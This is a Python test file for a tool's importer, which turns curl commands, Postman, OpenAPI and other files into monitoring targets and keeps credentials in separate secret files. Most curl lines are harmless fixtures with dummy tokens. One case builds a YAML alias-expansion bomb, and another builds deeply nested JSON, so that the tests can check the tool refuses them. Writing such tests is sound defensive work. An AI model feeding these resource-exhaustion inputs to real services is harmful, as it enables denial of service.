def test_a_secret_in_an_option_of_curl_is_nowhere_but_in_its_own_file(binary, tmp_path):
    (tmp_path / "all.sh").write_text("""curl -u stoken1z https://a.example.com/
curl -u :stoken2z https://b.example.com/
curl --oauth2-bearer stoken3z https://c.example.com/
curl -E c.pem:stoken4z https://d.example.com/
curl --pass stoken5z -E c.pem https://e.example.com/
curl -b 'a=stoken6z' https://f.example.com/
curl -U joe:xtoken1z -x http://proxy:1 https://g.example.com/
curl -x 'http://joe:xtoken2z@proxy:1' https://g.example.com/
curl -x 'http://proxy:1/?token=xtoken3z' https://g.example.com/
curl -H 'X-Api-Key: sbeside7' -d '{"pin": 1234567}' https://h.example.com/
""")
    result = run_import(binary, tmp_path, "all.sh", "--output", "imported.toml", "--with-writes")
    shown = (tmp_path / "imported.toml").read_text() + result.stdout + result.stderr
    assert "token1z" not in shown and not re.findall(r"[sx]token\dz|1234567|sbeside7", shown)
    kept = "\n".join(secret_files(tmp_path / "secrets").values())
    assert set(re.findall(r"[sx]token\dz", kept)) == {f"stoken{number}z" for number in range(1, 7)}
    assert result.stderr.count("its proxy has a password") == 3 and "its body has a secret that is a number" in result.stderr


def test_a_secret_of_a_postman_environment_is_one_whatever_its_name(binary, tmp_path):
    write(tmp_path, {"c.json": json.dumps({
        "info": {"name": "X", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
        "item": [{"name": "Me", "request": {"url": "https://api.example.com/me", "header": [{"key": "X-Y", "value": "{{plain}}"}]}}]}),
        "e.json": json.dumps({"name": "e", "values": [{"key": "plain", "value": "word", "type": "secret", "enabled": True}]})})
    result = run_import(binary, tmp_path, "c.json", "e.json", "--output", "imported.toml")
    assert result.returncode == 0, result.stderr
    assert "word" not in (tmp_path / "imported.toml").read_text() + result.stdout + result.stderr
    assert list(secret_files(tmp_path / "secrets").values()) == ["word"]


def test_each_secret_is_in_the_file_of_its_own_credential(binary, tmp_path):
    """Also where one credential is called as another one's file before it is in its place."""
    hosts = ["x.new", "x", "y", "y.new"]
    write(tmp_path, {"all.sh": "".join(f"curl -H 'Authorization: Bearer token-of-{host}-1234' https://{host}/a\n" for host in hosts)})
    result = run_import(binary, tmp_path, "all.sh", "--output", "imported.toml")
    assert result.returncode == 0, result.stderr
    assert secret_files(tmp_path / "secrets") == {host: f"token-of-{host}-1234" for host in hosts}


def test_requests_that_write_are_carried_when_told(binary, api, tmp_path, running):
    call = f"curl {api}/bearer -H 'Authorization: Bearer {BEARER}' -d 'a=b'"
    result = run_import(binary, tmp_path, "-", "--with-writes", "--interval=200ms", "--output", "imported.toml", text=call)
    assert result.returncode == 0 and 'method = "POST"' in (tmp_path / "imported.toml").read_text()
    exporter = running.add(Exporter(tmp_path / "imported.toml"))
    exporter.wait_for_state(named(api, "BEARER"), "ok")


@pytest.mark.parametrize("name, text, problem", [
    ("x.json", "{", "x.json:1:1: is not JSON"),
    ("x.yml", "a: [", "x.yml:"),
    ("x.txt", "hello", "x.txt:1:1: is of no format that is known (curl commands, blackbox.yml"),
    ("x.json", '{"swagger": "2.0", "info": {}, "item": 1}', "is Swagger 2.0, and OpenAPI 3 is read"),
    ("blackbox.yml", "modules: {a: {prober: http}}", "blackbox.yml:1:1: says how to probe, not what (give Prometheus's configuration too"),
    ("prometheus.yml", "scrape_configs: []", "prometheus.yml:1:1: says what is probed, not how (give blackbox.yml too)"),
    ("env.json", '{"name": "x", "values": []}', "is an environment without a collection"),
    ("x.har", '{"log": {"entries": []}}', "x.har: nothing of it could be carried"),
    ("x.json", "[" * 200 + "]" * 200, "is nested too deeply or has too many values"),
    ("bomb.yml", "endpoints: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(8)), "is nested too deeply or has too many values"),
])
def test_what_cannot_be_understood_is_refused_with_its_place(binary, tmp_path, name, text, problem):
    (tmp_path / name).write_text(text)
    result = run_import(binary, tmp_path, name, "--output", "imported.toml")
    assert result.returncode == 1 and problem in result.stderr, result.stderr
    assert [path.name for path in tmp_path.iterdir()] == [name]


def test_files_have_a_bound(binary, tmp_path):
    (tmp_path / "large.json").write_bytes(b"[" + b" " * (32 << 20) + b"]")
    result = run_import(binary, tmp_path, "large.json")
    assert result.returncode == 2 and result.stderr == "large.json is larger than 32 MiB\n"
    piped = run_import(binary, tmp_path, "-", text="#" * (33 << 20))
    assert piped.returncode == 2 and piped.stderr == "- is larger than 32 MiB\n"
    assert run_import(binary, tmp_path, "missing.json").returncode == 2
    for wrong in (("--from", "nonsense"), ("--interval", "soon"), ("--base-url", "x")):
        assert run_import(binary, tmp_path, "large.json", *wrong).returncode == 2


def test_the_format_that_is_told_is_required(binary, tmp_path):
    (tmp_path / "x.har").write_text('{"log": {"entries": []}}')
    result = run_import(binary, tmp_path, "x.har", "--from", "openapi")
    assert result.returncode == 1 and "x.har:1:1: is not of the format openapi (it looks like har)" in result.stderr


def test_what_the_configuration_refuses_is_left_out_alone(binary, tmp_path):
    (tmp_path / "config.yaml").write_text("""
endpoints:
  - name: good
    url: https://api.example.com/
    conditions: ["[STATUS] == 200"]
  - name: fast
    url: https://api.example.com/
    interval: 1ms
    conditions: ["[STATUS] == 200", "[BODY].x < 1e"]
    extra-labels: {instance: x, team: shop}
  - name: bad
    url: "https://api.exa mple.com/"
    headers: {"b d": x}
  - name: other way
    url: "https://api.example.com/"
    client: {proxy-url: "socks5://127.0.0.1:1080"}
  - name: bad header
    url: "https://api.example.com/"
    headers: {"b d": x}
""")
    result = run_import(binary, tmp_path, "config.yaml")
    assert result.returncode == 0, result.stderr
    assert "config.yaml:6: not carried: fast: interval: must be from 100ms to 1d" in result.stderr
    assert "config.yaml:6: not carried: fast: labels.instance: " in result.stderr
    assert "config.yaml:11: not carried: bad: its URL must be visible ASCII" in result.stderr
    assert "config.yaml:17: not carried: bad-header: headers." in result.stderr
    assert "config.yaml:14: not carried: other-way: proxy " in result.stderr and "targets.other-way" not in result.stdout
    assert "[targets.good]" in result.stdout and "[targets.fast]" in result.stdout and "targets.bad" not in result.stdout
    assert 'labels.team = "shop"' in result.stdout and "expect.json" not in result.stdout


def test_a_large_openapi_file_takes_under_a_second(binary, tmp_path):
    """As many operations as a large public API has, with schemas around them; a debug build under load gets more time."""
    schema = {"type": "object", "properties": {f"field{i}": {"type": "string", "description": "text " * 8, "example": "x"} for i in range(40)}}
    paths = {f"/things/{i}/{{id}}": {"get": {"operationId": f"things/{i}", "responses": {"200": {"content": {"application/json": {"schema": schema}}}},
                                             "parameters": [{"$ref": "#/components/parameters/id"}]}} for i in range(320)}
    (tmp_path / "large.json").write_text(json.dumps({
        "openapi": "3.0.3", "servers": [{"url": "https://api.example.com"}], "paths": paths, "security": [{"token": []}], "components": {
            "securitySchemes": {"token": {"type": "http", "scheme": "bearer"}},
            "parameters": {"id": {"name": "id", "in": "path", "required": True, "example": "1"}}}}))
    start = time.monotonic()
    result = run_import(binary, tmp_path, "large.json")
    seconds = time.monotonic() - start
    assert result.returncode == 0 and "640 targets, 1 credential" in result.stderr, result.stderr
    cache = binary.parents[1] / "CMakeCache.txt"
    is_debug = cache.exists() and "CMAKE_BUILD_TYPE:STRING=Debug" in cache.read_text()
    assert seconds < (5 if is_debug else 1), f"{seconds:.2f} s"


def test_the_example_of_the_documents(binary, tmp_path):
    shown = (Path(__file__).parents[2] / "docs/import.md").read_text().partition("    $ authprobe_exporter import runbook.sh\n")[2]
    example = "".join(line[4:] or "\n" for line in shown.partition("\n\nWith `--output")[0].splitlines(keepends=True))
    (tmp_path / "runbook.sh").write_text("#!/bin/sh\n\ncurl -H 'Authorization: Bearer sesame' https://api.example.com/v1/me\n"
                                         "curl -H 'Authorization: Bearer sesame' https://api.example.com/v1/orders -d '{}'\n")
    result = run_import(binary, tmp_path, "runbook.sh")
    assert result.stdout + result.stderr.rstrip("\n") == example
